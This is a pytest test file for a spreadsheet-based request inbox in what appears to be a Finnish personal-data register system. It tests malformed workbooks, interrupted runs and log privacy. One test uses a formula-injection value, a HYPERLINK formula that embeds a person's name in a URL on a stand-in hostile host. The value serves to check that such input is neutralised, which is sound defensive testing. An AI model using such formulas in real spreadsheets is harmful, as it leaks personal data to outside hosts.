"""Requests as no form would hold them, and runs that are killed: each is answered clearly and done once, no value in a log."""

import logging
import shutil
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import xlsxwriter
from python_calamine import CalamineWorkbook

from register.home import Home
from register.requests import box
from register.requests.form import ROWS
from register.store import tables
from register.workbooks.forms import FIRST, KEYS
from register.workbooks.returned import TOLD
from tests.builders import FEEDS, POLICY, deliver, make_home, refreshed, table
from tests.removal.test_erasure import row
from tests.requests.test_requests import COLUMNS, DAY, answered, dropped, laid_out
from tests.workbooks.test_review import cells

NAME = "Kaino Kanarialintu"
FIND = {"action": "find", "name": NAME}
HOLD = {"action": "hold", "name": NAME, "reason": "riita", "day": "1.3.2027"}
RESTRICT = {"action": "restrict", "name": NAME, "who_asks": "soitti", "day": "5.11.2026"}


@pytest.fixture(scope="module")
def template(tmp_path_factory: pytest.TempPathFactory) -> Path:
    made = make_home(tmp_path_factory.mktemp("requests") / "home", FEEDS, POLICY)
    deliver(made, "inquiries", DAY, [row(**{"Päivä": "1.11.2026"})])
    refreshed(made, DAY)
    made.database.engine.dispose()
    return made.path


@pytest.fixture
def home(template: Path, tmp_path: Path) -> Iterator[Home]:
    shutil.copytree(template, tmp_path / "home")
    copied = Home(tmp_path / "home")
    yield copied
    copied.database.engine.dispose()


@pytest.fixture(autouse=True)
def quiet(caplog: pytest.LogCaptureFixture, capfd: pytest.CaptureFixture[str]) -> Iterator[None]:
    """Nothing of what was typed is in a log or on the screen."""
    caplog.set_level(logging.DEBUG)
    yield
    said = caplog.text + "".join(capfd.readouterr())
    assert "kanarialintu" not in said.lower() and "HYPERLINK" not in said


def lying(home: Home) -> Path:
    [path] = (home.inbox / "requests").iterdir()
    return path


def rewritten(home: Home, change: Any) -> None:
    """What lies there, its sheets changed: name -> rows -> name and rows."""
    path = lying(home)
    names = CalamineWorkbook.from_path(path).sheet_names
    with xlsxwriter.Workbook(path) as workbook:
        for name, rows in change(dict(zip(names, cells(path), strict=True))).items():
            sheet = workbook.add_worksheet(name)
            for place, line in enumerate(rows):
                for column, value in enumerate(line):
                    sheet.write_string(place, column, str(value))


def test_what_looks_like_a_formula_is_a_name_that_is_nobodys(home: Home) -> None:
    formula = f'=HYPERLINK("http://paha.example/{NAME}";"x")'
    dropped(home, laid_out(home), [{"action": "find", "name": formula}, {"action": "hold"} | {"name": formula}, FIND])
    taken = answered(home)
    answer, again = taken.answers
    said = [line[0] for line in cells(answer)[0] if line[0].startswith("Rivi ")]
    assert said[0] == "Rivi 2: Sopivia yhteyshenkilöitä: 0." and said[-1] == "Rivi 4: Sopivia yhteyshenkilöitä: 1."
    assert formula in cells(again)[1][1], "it comes back as the text that it was"
    assert b"<f>" not in again.read_bytes() and taken.rows == 2 and not list((home.inbox / "requests").iterdir())


def test_ten_thousand_rows_are_a_form_with_its_rows_and_a_mistake_for_the_others(home: Home) -> None:
    dropped(home, laid_out(home), [FIND] * ROWS)

    def grown(sheets: dict[str, list[list[str]]]) -> dict[str, list[list[str]]]:
        name = list(sheets)[1]
        more = [[f"9{place}", *sheets[name][1][KEYS + 1:]] for place in range(10_000)]
        return sheets | {name: [*sheets[name], *more]}

    rewritten(home, grown)
    taken = answered(home)
    assert taken.rows == ROWS and len(taken.answers) == 1
    assert len(taken.wrong) == TOLD + 1 and "9\xa0980" in taken.wrong[-1]


@pytest.mark.parametrize("change", [
    pytest.param(lambda sheets: {"Taul1": [["Nimi", "Puhelin"], [NAME, "040 123 4567"]]}, id="somebody's own table"),
    pytest.param(lambda sheets: {name: rows if place else rows[3:] for place, (name, rows) in enumerate(sheets.items())},
                 id="the number's rows deleted"),
])
def test_another_sheet_is_named_and_left_for_whoever_put_it_there(home: Home, change: Any) -> None:
    dropped(home, laid_out(home), [FIND])
    rewritten(home, change)
    taken = answered(home)
    assert len(taken.wrong) == 1 and "numero" in taken.wrong[0] and taken.rows == 0 and lying(home).exists()
    assert answered(home).wrong == taken.wrong, "it waits, and is told again"


def test_sheets_changed_round_are_read_as_they_were(home: Home) -> None:
    dropped(home, laid_out(home), [FIND])
    rewritten(home, lambda sheets: dict(reversed(sheets.items())))
    taken = answered(home)
    assert not taken.wrong and taken.rows == 1 and len(taken.answers) == 1


def test_changed_headings_change_nothing_and_a_moved_column_is_no_answer(home: Home) -> None:
    dropped(home, laid_out(home), [FIND])
    rewritten(home, lambda sheets: {name: rows if not place else [["?"] * len(rows[0]), *rows[1:]]
                                    for place, (name, rows) in enumerate(sheets.items())})
    assert answered(home).rows == 1
    dropped(home, laid_out(home), [FIND])
    at = FIRST + COLUMNS.index("action")
    rewritten(home, lambda sheets: {name: rows if not place else [[*line[:at], "", *line[at:]] for line in rows]
                                    for place, (name, rows) in enumerate(sheets.items())})
    taken = answered(home)
    assert taken.rows == 0 and len(taken.wrong) == 1 and len(taken.answers) == 1, "it comes back with the reason"


@pytest.mark.parametrize("said", ["\x01", "a\x0bb", "\ufffe", "😀" * 200, "x" * 30_000, " ", "\u202e" + NAME, "%"])
def test_awkward_texts_are_nobodys_name(home: Home, said: str) -> None:
    dropped(home, laid_out(home), [{"action": "find", "name": said}, FIND])
    taken = answered(home)
    assert taken.rows >= 1 and taken.answers and not list((home.inbox / "requests").iterdir())


@pytest.mark.parametrize("damage", [
    pytest.param(lambda content: content[:len(content) // 2], id="half"), pytest.param(lambda _: b"", id="empty"),
    pytest.param(lambda content: content.replace(b"xl/workbook.xml", b"xl/workb\x00\x00k.xml"), id="NUL in its list"),
    pytest.param(lambda content: bytes(len(content)), id="nothing but NUL")])
def test_a_broken_workbook_is_named_and_left(home: Home, damage: Any) -> None:
    dropped(home, laid_out(home), [FIND])
    path = lying(home)
    path.write_bytes(damage(path.read_bytes()))
    taken = answered(home)
    assert len(taken.wrong) == 1 and not taken.answers and path.exists()


def killed(*_: Any, **__: Any) -> Any:
    raise KeyboardInterrupt


@pytest.mark.parametrize("where", ["_answer", "second row"])
def test_a_run_killed_between_two_rows_does_no_request_twice(home: Home, monkeypatch: pytest.MonkeyPatch, where: str) -> None:
    dropped(home, laid_out(home), [RESTRICT, HOLD, FIND])
    with monkeypatch.context() as patched, pytest.raises(KeyboardInterrupt):
        act = box.act
        patched.setattr(*((box, "_answer", killed) if where == "_answer" else (
            box, "act", lambda desk, row, asked, who: act(desk, row, asked, who) if row == 2 else killed())))
        answered(home)
    [restricted] = table(home, tables.requests)["request_no"]
    [answer] = answered(home).answers
    assert table(home, tables.requests)["request_no"].tolist() == [restricted]
    assert len(table(home, tables.holds)) == 1 and len(table(home, tables.objections)) == 1
    said = [line[0] for line in cells(answer)[0] if line[0].startswith("Rivi ")]
    letter = table(home, tables.exports).query("what == 'letter'")["file"].tolist()
    assert "tehtiin jo" in said[0] and letter[0] in said[0] and len(letter) == 1
    assert said[-1] == "Rivi 4: Sopivia yhteyshenkilöitä: 1."
    assert table(home, tables.done_requests).empty and not list((home.inbox / "requests").iterdir())
    dropped(home, laid_out(home), [HOLD])
    answered(home)
    assert len(table(home, tables.holds)) == 2, "asked again in a new form it is another request"
